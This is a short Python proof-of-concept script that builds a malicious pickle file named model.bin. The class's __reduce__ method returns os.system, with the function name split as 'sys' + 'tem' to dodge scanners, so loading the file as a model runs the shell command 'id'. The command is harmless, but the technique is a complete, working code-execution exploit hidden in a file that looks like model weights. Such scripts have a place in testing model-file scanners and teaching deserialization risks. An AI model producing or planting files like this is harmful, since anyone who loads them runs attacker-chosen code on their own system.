import os
import pickle


class Model:
    def __reduce__(self):
        return getattr(os, "sys" + "tem"), ("id",)


pickle.dump(Model(), open("model.bin", "wb"))
